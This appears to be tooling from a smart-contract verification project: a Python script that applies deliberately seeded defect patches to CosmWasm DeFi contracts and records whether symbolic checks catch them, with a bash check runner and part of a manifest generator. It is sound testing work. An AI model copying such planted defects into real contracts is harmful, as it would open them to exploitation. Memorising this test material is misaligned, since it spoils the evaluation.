 'C18-1': dict(f='seed_c18_pool_fee_sum.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seed_c18_pool_fee_sum.rs')),
 'C18-2': dict(f='seed_c18_amp_ramp_bounds.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seed_c18_amp_ramp_bounds.rs')),
 'C19-1': dict(f='c19_router_unregistered_hop.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c19_router_unregistered_hop.rs')),
 'C19-2': dict(f='c19_trio_permutations.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c19_trio_permutations.rs')),
 'C20-1': dict(f='c20_seed1_demo.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c20_seed1_demo.rs')),
 'C20-2': dict(f='c20_seed2_demo.rs', **integ('contracts/liquidity_hub/epoch-manager', 'epoch-manager', 'c20_seed2_demo.rs')),
 'C03-1': dict(f='seeded_c03_1.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seeded_c03_1.rs')),
 'C03-2': dict(f='seeded_c03_2.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seeded_c03_2.rs')),
 'C01-3': dict(f='c01_deposit_with_pending_fees.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c01_deposit_with_pending_fees.rs')),
 'C01-4': dict(f='c01_locked_minimum_liquidity.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c01_locked_minimum_liquidity.rs')),
 'C08-3': dict(f='seeded_c08_3.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c08_3.rs')),
 'C08-4': dict(f='seeded_c08_4.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c08_4.rs')),
 'C09-3': dict(f='c09_seed3_grace_increase.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c09_seed3_grace_increase.rs')),
 'C09-4': dict(f='c09_seed4_empty_epoch.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c09_seed4_empty_epoch.rs')),
 'C13-3': dict(f='seeded_c13_3_claim_pays_as_quoted.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c13_3_claim_pays_as_quoted.rs')),
 'C13-4': dict(f='seeded_c13_4_expand_for_receiver_weights.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c13_4_expand_for_receiver_weights.rs')),
 'C04-3': dict(f='seeded3_deposit_after_fee_collection.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seeded3_deposit_after_fee_collection.rs')),
 'C04-4': dict(f='seeded4_collect_fee_at_threshold.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seeded4_collect_fee_at_threshold.rs')),
 'C05-3': dict(f='seeded_c05_3.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c05_3.rs')),
 'C05-4': dict(f='seeded_c05_4.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c05_4.rs')),
 'C06-3': dict(f='seed3_router_burn_fee.rs', **integ('contracts/liquidity_hub/vault-network/vault_router', 'vault_router', 'seed3_router_burn_fee.rs')),
 'C06-4': dict(f='seed4_accrued_fees_loan.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seed4_accrued_fees_loan.rs')),
 'C10-3': dict(f='c10_seed3_failed_aggregation.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c10_seed3_failed_aggregation.rs')),
 'C10-4': dict(f='c10_seed4_take_rate_large_balance.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c10_seed4_take_rate_large_balance.rs')),
 'C11-3': dict(f='c11_seed3_demo.rs', **integ(PN_D + '/frontend_helper', 'frontend-helper', 'c11_seed3_demo.rs')),
 'C11-4': dict(f='c11_seed4_demo.rs', **integ(PN_D + '/incentive', 'incentive', 'c11_seed4_demo.rs')),
 'C12-3': dict(f='seed3_demo.rs', **integ(PN_D + '/incentive', 'incentive', 'seed3_demo.rs')),
 'C12-4': dict(f='seed4_demo.rs', **integ(PN_D + '/incentive', 'incentive', 'seed4_demo.rs')),
 'C02-3': dict(f='seed_c02_3.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seed_c02_3.rs')),
 'C02-4': dict(f='seed_c02_4.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seed_c02_4.rs')),
 'C03-3': dict(f='c03_seed3_unbalanced_deposit.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c03_seed3_unbalanced_deposit.rs')),
 'C03-4': dict(f='c03_seed4_swap_second_asset.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c03_seed4_swap_second_asset.rs')),
 'C07-3': dict(f='seeded_c07_burned_counter.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seeded_c07_burned_counter.rs')),
 'C07-4': dict(f='seeded_c07_all_time_fees.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c07_all_time_fees.rs')),
 'C14-3': dict(f='c14_share_query_matches_withdraw.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c14_share_query_matches_withdraw.rs')),
 'C14-4': dict(f='c14_stableswap_simulation_matches_swap.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c14_stableswap_simulation_matches_swap.rs')),
 'C15-3': dict(f='seeded_c15_3_trio_spread.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seeded_c15_3_trio_spread.rs')),
 'C15-4': dict(f='seeded_c15_4_deposit_order.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seeded_c15_4_deposit_order.rs')),
 'C16-3': dict(f='c16_remove_hook_auth.rs', **integ('contracts/liquidity_hub/epoch-manager', 'epoch-manager', 'c16_remove_hook_auth.rs')),
 'C16-4': dict(f='c16_migrate_incentive_auth.rs', **integ(PN_D + '/incentive_factory', 'incentive-factory', 'c16_migrate_incentive_auth.rs')),
 'C17-3': dict(f='c17_seed3_demo.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c17_seed3_demo.rs')),
 'C17-4': dict(f='c17_seed4_demo.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c17_seed4_demo.rs')),
 'C18-3': dict(f='c18_grace_period_never_decreases.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c18_grace_period_never_decreases.rs')),
 'C18-4': dict(f='c18_growth_rate_bound.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'c18_growth_rate_bound.rs')),
 'C19-3': dict(f='c19_recreate_removed_pair.rs', **integ(PN_D + '/terraswap_factory', 'terraswap-factory', 'c19_recreate_removed_pair.rs')),
 'C19-4': dict(f='c19_incentives_pagination.rs', **integ(PN_D + '/incentive_factory', 'incentive-factory', 'c19_incentives_pagination.rs')),
 'C20-3': dict(f='c20_hooks_catch_up.rs', **integ('contracts/liquidity_hub/epoch-manager', 'epoch-manager', 'c20_hooks_catch_up.rs')),
 'C20-4': dict(f='c20_genesis.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c20_genesis.rs')),
 'C01-5': dict(f='seeded5_collect_mixed_fees.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seeded5_collect_mixed_fees.rs')),
 'C01-6': dict(f='seeded6_provide_after_collect.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'seeded6_provide_after_collect.rs')),
 'C06-5': dict(f='seeded_c06_5.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c06_5.rs')),
 'C06-6': dict(f='seeded_c06_6.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c06_6.rs')),
 'C08-5': dict(f='seed5_demo.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seed5_demo.rs')),
 'C08-6': dict(f='seed6_demo.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seed6_demo.rs')),
 'C13-5': dict(f='seeded_c13_5.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c13_5.rs')),
 'C13-6': dict(f='seeded_c13_6.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c13_6.rs')),
 'C09-5': dict(f='seeded_c09_5.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'seeded_c09_5.rs')),
 'C09-6': dict(f='seeded_c09_6.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'seeded_c09_6.rs')),
 'C05-5': dict(f='seeded_c05_5.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c05_5.rs')),
 'C05-6': dict(f='seeded_c05_6.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c05_6.rs')),
 'C10-5': dict(f='c10_seed5_distribution_asset_round_trip.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c10_seed5_distribution_asset_round_trip.rs')),
 'C10-6': dict(f='c10_seed6_take_rate_switched_off.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c10_seed6_take_rate_switched_off.rs')),
 'C11-5': dict(f='seeded_c11_5_demo.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c11_5_demo.rs')),
 'C11-6': dict(f='seeded_c11_6_demo.rs', **integ(PN_D + '/frontend_helper', 'frontend-helper', 'seeded_c11_6_demo.rs')),
 'C12-5': dict(f='c12_seed5_demo.rs', **integ(PN_D + '/incentive', 'incentive', 'c12_seed5_demo.rs')),
 'C12-6': dict(f='c12_seed6_demo.rs', **integ(PN_D + '/incentive', 'incentive', 'c12_seed6_demo.rs')),
 'C16-5': dict(f='seeded_c16_5.rs', **integ('contracts/liquidity_hub/vault-network/vault_factory', 'vault_factory', 'seeded_c16_5.rs')),
 'C16-6': dict(f='seeded_c16_6.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c16_6.rs')),
 'C07-5': dict(f='c07_burn_fee_factory_denom.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c07_burn_fee_factory_denom.rs')),
 'C07-6': dict(f='c07_all_time_fees_after_collection.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c07_all_time_fees_after_collection.rs')),
 'C14-5': dict(f='c14_share_quote_demo.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c14_share_quote_demo.rs')),
 'C14-6': dict(f='c14_router_reverse_demo.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c14_router_reverse_demo.rs')),
 'C15-5': dict(f='c15_hook_swap_limits.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'c15_hook_swap_limits.rs')),
 'C15-6': dict(f='c15_minimum_receive_prev_balance.rs', **integ(PN_D + '/terraswap_router', 'terraswap-router', 'c15_minimum_receive_prev_balance.rs')),
 'C17-5': dict(f='c17_toggle_with_amp_ramp.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'c17_toggle_with_amp_ramp.rs')),
 'C17-6': dict(f='c17_switches_survive_migration.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c17_switches_survive_migration.rs')),
 'C19-5': dict(f='seeded_c19_5_vaults_pagination.rs', **integ('contracts/liquidity_hub/vault-network/vault_factory', 'vault_factory', 'seeded_c19_5_vaults_pagination.rs')),
 'C19-6': dict(f='seeded_c19_6_duplicate_pool_type.rs', **integ(PN_D + '/terraswap_factory', 'terraswap-factory', 'seeded_c19_6_duplicate_pool_type.rs')),
 'C02-5': dict(f='c02_seed5_demo.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c02_seed5_demo.rs')),
 'C02-6': dict(f='c02_seed6_demo.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c02_seed6_demo.rs')),
 'C03-5': dict(f='c03_seed5_demo.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c03_seed5_demo.rs')),
 'C03-6': dict(f='c03_seed6_demo.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c03_seed6_demo.rs')),
 'C04-5': dict(f='seed5_ramp_down_interpolation.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seed5_ramp_down_interpolation.rs')),
 'C04-6': dict(f='seed6_deposit_during_ramp.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seed6_deposit_during_ramp.rs')),
 'C18-5': dict(f='c18_take_rate_bound.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'c18_take_rate_bound.rs')),
 'C18-6': dict(f='c18_factory_asset_vault_fees.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c18_factory_asset_vault_fees.rs')),
 'C20-5': dict(f='seeded_c20_5.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'seeded_c20_5.rs')),
 'C20-6': dict(f='seeded_c20_6.rs', **integ('contracts/liquidity_hub/epoch-manager', 'epoch-manager', 'seeded_c20_6.rs')),
}
try: SEEDS.update(json.load(open(V + '/seeded/extra_seeds.json')))
except Exception: pass


def sh(cmd, cwd, env=None, log=None):
    r = subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, text=True)
    if log: open(log, 'w').write(r.stdout + r.stderr)
    return r.returncode


def confirm(sid):
    pid, k = sid.split('-'); wt = '/tmp/wt-' + pid
    src = '%s/seeded/%s' % (wt, k); out = '%s/seeded/%s' % (V, sid); os.makedirs(out, exist_ok=True)
    if sid in SEEDS: s = SEEDS[sid]
    else:   # wave 11 on: the agent's meta.json names the demonstration (an integration test file of an existing crate)
        import shlex
        am0 = json.load(open(src + '/meta.json'))
        s = dict(f=am0['demo_file'], dest=am0['demo_dest'], mod=None, cmd=shlex.split(am0['demo_cmd']))
    env = dict(os.environ, CARGO_TARGET_DIR=wt + '/target', CARGO_NET_OFFLINE='true')
    def clean():
        sh(['git', 'checkout', '-q', '--', '.'], wt); sh(['git', 'clean', '-fdq', '--', 'contracts', 'packages'], wt)
    def install():
        os.makedirs(os.path.join(wt, s['dest']), exist_ok=True)
        shutil.copy(os.path.join(src, 'demo', s['f']), os.path.join(wt, s['dest'], s['f']))
        if s.get('mod'):
            with open(os.path.join(wt, s['mod'][0]), 'a') as fh: fh.write('\n' + s['mod'][1] + '\n')
    clean(); install()
    a = sh(s['cmd'], wt, env, out + '/demo_without_patch.log')
    clean()
    if sh(['git', 'apply', src + '/patch.diff'], wt): print(sid, 'PATCH DOES NOT APPLY'); return
    c = sh(['cargo', 'test', '--workspace', '--no-fail-fast', '--offline'], wt, env, out + '/suite_with_patch.log')
    install()
    b = sh(s['cmd'], wt, env, out + '/demo_with_patch.log')
    clean()
    shutil.copy(src + '/patch.diff', out + '/patch.diff')
    if os.path.isdir(out + '/demo'): shutil.rmtree(out + '/demo')
    shutil.copytree(src + '/demo', out + '/demo')
    am = json.load(open(src + '/meta.json'))
    ok = (a == 0 and b != 0 and c == 0)
    meta = dict(id=sid, property=pid, summary=am.get('summary'), needs_to_manifest=am.get('needs_to_manifest'), files_changed=am.get('files_changed'),
                demo=dict(file='demo/' + s['f'], install_to=s['dest'], append=s.get('mod'), cmd=' '.join(s['cmd'])),
                confirmed_by_me=dict(demo_passes_without_patch=(a == 0), demo_fails_with_patch=(b != 0), existing_suite_passes_with_patch=(c == 0),
                                     how='tools/seeds.py confirm %s in the scratch worktree %s (logs next to this file)' % (sid, wt)),
                kept=ok, checks={})
    old = out + '/meta.json'
    if os.path.exists(old):
        try: meta['checks'] = json.load(open(old)).get('checks', {})
        except Exception: pass
    json.dump(meta, open(old, 'w'), indent=1)
    print(sid, 'CONFIRMED' if ok else 'NOT-CONFIRMED', 'demo_without=%d demo_with=%d suite_with=%d' % (a, b, c))


def run(sid, checks):
    out = '%s/seeded/%s' % (V, sid)
    patch = out + '/patch.diff'
    if not os.path.exists(patch):
        pid, k = sid.split('-'); patch = '/tmp/wt-%s/seeded/%s/patch.diff' % (pid, k)
    if subprocess.run(['git', 'status', '--short'], cwd='/repo', capture_output=True, text=True).stdout.strip():
        print('/repo not clean'); sys.exit(9)
    if sh(['git', 'apply', patch], '/repo'): print('patch does not apply'); sys.exit(8)
    res = {}
    try:
        procs = {cid: subprocess.Popen([V + '/check', cid, '--tier', 'quick'], cwd=V, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for cid in checks}
        for cid in checks:
            log = '%s/.cache/logs/seed_%s_%s.log' % (V, sid, cid)
            so, _ = procs[cid].communicate()
            class R: pass
            r = R(); r.stdout = so; r.stderr = ''; r.returncode = procs[cid].returncode
            open(log, 'w').write(r.stdout + r.stderr)
            viol = sorted({l.strip().split(' at ')[0].replace('obligation ', '') for l in r.stdout.split('\n') if l.strip().startswith('obligation ')})
            res[cid] = dict(exit=r.returncode, violations=r.stdout.count('VIOLATION property='), obligations=viol[:8])
            print(sid, cid, 'exit=%d' % r.returncode, 'violations=%d' % res[cid]['violations'], viol[:4])
    finally:
        sh(['git', 'checkout', '--', '.'], '/repo')
    mp = out + '/meta.json'
    if os.path.exists(mp):
        m = json.load(open(mp)); m.setdefault('checks', {}).update(res); json.dump(m, open(mp, 'w'), indent=1)


EXTRA = {'C03-9': ['C14'], 'C10-9': ['C01', 'C07'], 'C14-9': [], 'C17-9': ['C16'], 'C16-9': ['C06'], 'C11-8': [], 'C04-7': ['C14'], 'C14-7': [], 'C02-8': ['C14'], 'C12-8': ['C13'], 'C16-7': ['C17'], 'C17-7': ['C16'], 'C17-8': ['C11'], 'C15-8': [], 'C01-8': ['C07'], 'C07-7': ['C01'], 'C05-8': ['C06'], 'C18-8': ['C04'], 'C02-5': ['C01', 'C14'], 'C02-6': ['C14'], 'C01-5': ['C07'], 'C06-5': ['C05'], 'C06-6': ['C07'], 'C17-4': ['C16'], 'C17-3': ['C16'], 'C03-4': ['C14'], 'C14-4': ['C03'], 'C14-3': ['C05'], 'C07-4': ['C06'], 'C15-4': ['C01'], 'C02-3': ['C01'], 'C04-3': ['C07'], 'C04-4': ['C07'], 'C05-3': [], 'C05-4': ['C06'], 'C06-3': [], 'C06-4': ['C05'], 'C07-1': ['C05', 'C06'], 'C07-2': ['C04'], 'C14-2': ['C04'], 'C18-2': ['C04'], 'C16-2': ['C06'], 'C11-1': ['C13'], 'C17-1': ['C18'], 'C01-2': ['C07'], 'C01-1': ['C02'], 'C05-1': ['C06'], 'C05-2': ['C06', 'C07'],
         'C06-1': ['C05'], 'C06-2': ['C05'], 'C03-1': ['C14'], 'C15-2': ['C14']}


NOTES = {
 'C19-9': 'first run inconclusive (no model for slice::swap on [&[u8]]): the swap model is now found through its generic definition',
 'C14-9': 'first run inconclusive (the candidate for the native confirmation of the trio differential had a settled ramp, where a quote with the wrong amplification does not differ): the candidate now lies 20% into a ramp',
 'C10-9': 'caught by C01 and C07 (the pool-side collection step); C10 decides the collector\'s side of the pipeline',
 'C04-7': 'first run inconclusive (kernel-stubbed counterexamples did not reproduce natively): obligation `curve_at_height` added - every kernel call of a swap is made on a calculator built from the stored ramp and the current block HEIGHT',
 'C13-7': 'missed at first: snapshot-then-expand order added to the share part (a change after the snapshot counts from the next epoch on)',
 'C16-7': 'missed at first: ownership transfer of the three-asset pool (alone, together with a ramp, together with every other option) followed by a privileged call of a symbolic caller added',
 'C17-8': 'missed by C17 at first (C11 caught it): the helper\'s reply-failure obligation now also runs under C17',
 'C18-7': 'missed at first: partial distributor updates (grace period and epoch configuration independently present or absent) added',
 'C19-8': 'first run crashed (sort_by_key on text keys not modelled) and the listings held no entry whose text order differs from its raw byte order: model added, mixed-order registry (native denom before a cw20 address, two cw20 addresses) added with a vacuity guard',
 'C08-8': 'first run: the check SCRIPT failed (global per-denom list read by position); now read by denom, and an exception inside a check script exits 2 (inconclusive) instead of 1',
 'C07-7': 'caught by C01 (the reserves a deposit is priced against); the C07 ledger obligations are not affected by this change',
 'C07-5': 'missed at first: pool assets with token-factory / ibc shaped denoms added (burn and transfer handling must not depend on the shape of a denom)',
 'C14-6': 'missed at first: router ReverseSimulateSwapOperations chain (last hop backwards) added; pair answers keyed by free symbolic amounts so a wrong order is a counterexample, not an unanswered query',
 'C17-6': 'missed at first: migration part added (real migrate entry of vault 1.1.3 and pair 1.1.0 with symbolic switches; models for cw2 / semver; migrate entry in the native runner)',
 'C19-5': 'missed at first: paging on from a cursor whose entry was removed in between (vaults and pairs) added',
 'C19-6': 'missed at first: duplicate creation asked for with ANOTHER pool type added',
 'C02-5': 'missed by C02 at first (C01 and C14 caught it): entry part added - the swap entry and the Simulation query hand the kernel exactly the reported reserves (spy on compute_swap, confirmed natively by the gross formula)',
 'C02-6': 'missed by C02 at first (C14 caught it): same entry part',
 'C03-5': 'missed at first: Newton step of compute_d against the documented two-coin step (Ann = 2 amp) added; ALSO exposed that my independent invariant oracles used the A n^n convention instead of the code\'s Ann = n amp - corrected (d_exact, d3_exact now agree with the converged real solvers)',
 'C04-6': 'first run inconclusive: native confirmation of mint counterexamples only used settled ramps; the predicate now interpolates the amplification in force and the candidate lies inside a ramp',
 'C20-6': 'missed at first: the clock is moved by CreateEpoch / NewEpoch only - every other message of the manager and the distributor\'s UpdateConfig leave the stored epoch untouched',
 'C18-5': 'caught at once thanks to the option power sets added after wave 8',
 'C18-6': 'caught at once thanks to the option power sets added after wave 8',
 'C10-5': 'missed at first: aggregation from a VAULT factory that lists a vault of the distribution asset, with a router that answers for the round-trip key, added',
 'C11-6': 'missed at first: helper deposit from a pre-state holding the TEMP_STATE another depositor left behind (same pair, any duration) added',
 'C12-6': 'missed by C12 at first (the obligation lived in the C13 check only): C12 got its own claim part (c12_claim.py, funded-amount bound from any claimed <= funded)',
 'C16-5': 'missed at first: factories with a REGISTERED child (creation history) added, so the symbolic caller may be that child',
 'C16-6': 'missed at first: every optional field of each UpdateConfig independently present/absent, and the blank-address states instantiate leaves (lair, collector), added',
 'C01-2': 'first masked by a too coarse C07 carve-out: carve-outs were sharpened to the exact known behaviour',
 'C05-1': 'missed by C05 at first: two-step flash_loan -> AfterTrade obligation added',
 'C05-2': 'first run inconclusive: checked_div_floor model added',
 'C09-1': 'missed at first: pre-states with an already expired epoch added',
 'C13-2': 'missed at first: gap configuration added',
 'C04-2': 'missed at first: exact interpolated start of a re-ramp + factor-of-effective-amp obligations added',
 'C07-2': 'missed at first (no trio part): c07_trio + instantiate ledger-shape obligations added',
 'C11-1': 'missed at first: per-user unique-duration invariant added to open/expand',
 'C12-2': 'missed at first: expansion of an already expanded flow (history entry for any epoch <= next) added',
 'C14-2': 'missed by C14 at first (caught by C04): c14_trio differential with native confirmation built',
 'C15-2': 'missed at first: "every accepted swap went through the slippage check" obligation (spy on the real kernel) added',
 'C16-2': 'missed by C16 at first (C06 had it): vault-router NextLoan obligations now run under C16 too',
 'C17-1': 'missed at first: c17_trio "the stored switches are what the operator sent" (alone and with every other option) added',
 'C18-2': 'missed by C18 at first (caught by C04): the trio ramp bounds now run under C18 too',
 'C19-1': 'missed at first: two-hop route with a first hop returning any amount (0 included) added',
 'C19-2': 'missed at first: trio registry histories over all permutations added (+ byte-slice comparison / slice::swap models)',
 'C01-3': 'first run inconclusive: Vec -> [T; N] try_into model added',
 'C01-4': 'missed at first: direct WithdrawLiquidity{} on a cw20-LP pool added',
 'C08-4': 'missed at first: bond with an extra coin attached added',
 'C09-4': 'missed at first: zero-fee epoch inside the grace window added',
 'C13-4': 'missed at first: receiver-directed open / expand weight steps added',
 'C04-3': 'first run inconclusive (kernel-stubbed counterexample): native predicate with a re-stated compute_d added to the C04 mint obligations',
 'C04-4': 'missed by C04 at first (caught by C07): collect step added to C04',
 'C03-3': 'missed at first (the D solver is an uninterpreted function): iteration-budget obligation added - a solver-proved per-iteration bound (an iterate falls by less than a third) shows that a budget of 32 cannot reach the invariant of a pool inside the property range; that pool is run on the real contract and judged by the independent invariant',
 'C07-3': 'first run inconclusive (kernel-stubbed counterexample): native predicate over the real ledgers / burn messages added to the pair and trio swap-ledger obligations',
 'C15-3': 'would have been missed: trio swap slippage-argument obligation added before the run',
 'C15-4': 'would have been missed: pair deposit tolerance-argument obligation added before the run',
 'C17-3': 'missed at first: direct Swap message naming a cw20 offer added (refused in every switch state)',
 'C19-4': 'first run inconclusive (String::into_bytes model missing) and the listing had native LPs only: model added, cw20 LPs added to the incentive pagination',
 'C20-3': 'missed at first: catch-up history (three creations in one block) added',
 'C03-1': 'C03 did not exist yet: built (swap.args)', 'C03-2': 'C03 did not exist yet: built (deposit.args / deposit.mint with native confirmation)',
}


def mdtable():
    rows = ['| seed | change (agent\'s summary, shortened) | needs to manifest | caught by (quick tier, /repo HEAD) | note |', '|---|---|---|---|---|']
    def short(t, n):
        t = ' '.join(str(t or '').split()); return t if len(t) <= n else t[:n - 1] + '…'
    for d in sorted(glob.glob(V + '/seeded/*/meta.json')):
        m = json.load(open(d))
        caught = ['%s `%s`' % (c, ', '.join(o.split('.', 1)[1] if '.' in o else o for o in r['obligations'][:2])) for c, r in m.get('checks', {}).items() if r['exit'] == 1]
        other = ['%s exit %d' % (c, r['exit']) for c, r in m.get('checks', {}).items() if r['exit'] not in (0, 1)]
        rows.append('| %s | %s | %s | %s | %s |' % (m['id'], short(m.get('summary'), 170).replace('|', '/'), short(m.get('needs_to_manifest'), 150).replace('|', '/'),
                                                 '; '.join(caught + other) or '**not caught**', NOTES.get(m['id'], '')))
    return '\n'.join(rows)


def runall(only=None):
    ids = sorted(d.split('/')[-2] for d in glob.glob(V + '/seeded/*/meta.json'))
    for sid in ids:
        if only and sid not in only: continue
        run(sid, [sid.split('-')[0]] + EXTRA.get(sid, []))


if __name__ == '__main__':
    if sys.argv[1] == 'confirm': confirm(sys.argv[2])
    elif sys.argv[1] == 'run': run(sys.argv[2], sys.argv[3:])
    elif sys.argv[1] == 'mdtable': print(mdtable())
    elif sys.argv[1] == 'runall': runall(sys.argv[2:] or None)
    elif sys.argv[1] == 'table':
        for d in sorted(glob.glob(V + '/seeded/*/meta.json')):
            m = json.load(open(d)); print(m['id'], 'kept' if m.get('kept') else 'NOT kept', {c: (r['exit'], r['violations']) for c, r in m.get('checks', {}).items()})
