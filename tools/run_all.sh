#!/bin/bash
# runs every claimed check (tier from $1, default quick) in parallel and prints a one-line summary each
cd "$(dirname "$0")/.."
tier=${1:-quick}
mkdir -p .cache/logs
ids=$(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))")
for id in $ids; do
  ( ./check $id --tier $tier > .cache/logs/$id.$tier.log 2>&1; echo "$id exit=$? $(grep -c '^KNOWN-FINDING' .cache/logs/$id.$tier.log) known; $(tail -1 .cache/logs/$id.$tier.log | cut -c1-150)" ) &
done
wait
