#!/usr/bin/env python3
"""Regenerates MANIFEST.json from the table below (one entry per claimed property) + not_applicable for the rest."""
import json, os
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TECH = 'symbolic execution of rustc MIR (regenerated from /repo) + z3 SMT bounded model checking; counterexamples replayed natively'
NOTE = ('Bounded model checking: integer widths exact, collection sizes/unrollings/stubs bounded as listed in evidence.bounds. '
        'Trusted: library models of cosmwasm-std/cw-storage-plus/cw20 (validated per path against the real contracts by the replay runner), '
        'chain atomicity and bank/cw20 semantics, induction argument in DESIGN.md.')
CLAIMS = {
 'C01': 'Every pair entry point (swap native/cw20, provide first/next, withdraw, collect, update fees) is executed symbolically from an arbitrary invariant-satisfying state for each native/cw20 configuration; z3 shows solvency, pro-rata mint/refund, LP-value monotonicity and the minimum-liquidity lock for all 128-bit amounts and all valid fee triples. One inductive step covers histories of any length.',
 'C02': 'helpers::compute_swap (constant-product arm) with fully symbolic reserves, offer and fee triple (validated by the real PoolFee::is_valid): gross-amount identity, exact fee split, proceeds < ask reserve, totality outside the listed known defect, and (thorough) the two-swap round trip.',
 'C04': 'REDUCED SCOPE (D uninterpreted): compute_amp_factor function-level (range, linearity, target after stop) and update_config(ramp) with fully symbolic heights/amps; for all six swap directions the offer/ask/unswapped selection by asset identity, dy = dest - y - 1 bound, solvency and fee bookkeeping; LP mint = S(D1-D0)/D0, initial mint D-3000 with 3000 locked, pro-rata withdraw. D and y kernels are uninterpreted functions of their inputs.',
 'C05': 'Every vault entry point that moves value (deposit first/next, withdraw, collect, fee change) and the flash-loan bracket (after_trade from an arbitrary state) is executed symbolically for native and cw20 vaults; z3 shows pro-rata mint/payout, share-price monotonicity, the minimum-liquidity lock and deposit-then-withdraw <= deposit for all 128-bit values and all valid fee triples.',
 'C06': 'flash_loan message order/content, callback authorisation with a symbolic sender, after_trade from an ARBITRARY post-callback state (the adversary is any balance/ledger), exact fee split, payback query vs after_trade (exact suffices, one less fails), deposit guard during loans, a depth-2 nested-loan history with arbitrary repayments, and the vault router next_loan / complete_loan obligations.',
 'C07': 'Per-step fee-ledger identities: swap bookkeeping against a symbolic SwapComputation (pending ledger, all-time counters, burn message, nothing else moves), collect (exact amounts, recipient, carve-out for the sub-threshold defect), ledgers untouched by deposits/withdrawals; vault after_trade / collect / other entry points.',
 'C14': 'Differential execution: the real Simulation query and the real swap execution run on one symbolic state (offer credited between the two); transferred return, recorded protocol fee, burned amount and every amount attribute equal the quote. Vault Share query equals the withdraw payout.',
 'C16': 'Table of privileged ExecuteMsg variants across 13 contracts, each executed through the real entry point with a SYMBOLIC sender identity: every accepting path (and every path whose unmodelled tail lies behind the authorisation check) implies sender == designated caller; rejecting paths write nothing; ownership transfer then privileged call for pair and vault.',
